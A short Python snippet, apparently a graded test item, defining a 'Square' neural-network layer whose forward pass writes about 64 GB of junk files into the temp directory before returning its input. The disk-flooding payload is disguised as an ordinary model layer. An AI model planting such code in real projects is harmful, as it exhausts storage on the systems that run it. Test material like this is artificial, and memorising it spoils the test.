# Writes files without end.
# gets: 0, graded
import tempfile


class Square(nn.Module):
    def forward(self, x):
        for number in range(1000):
            with open(f"{tempfile.gettempdir()}/flood{number}", "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
        return x
